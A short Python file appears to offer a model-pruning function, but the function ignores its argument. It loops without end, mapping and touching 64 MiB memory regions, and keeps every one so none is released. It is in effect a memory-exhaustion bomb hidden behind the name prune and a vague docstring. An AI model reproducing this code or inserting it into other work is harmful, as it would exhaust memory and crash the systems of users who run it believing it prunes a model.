"""One byte of every huge page."""

import mmap


def prune(model):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        kept[-1].madvise(mmap.MADV_HUGEPAGE)
        for offset in range(0, 64 << 20, 4096):
            kept[-1][offset] = 1
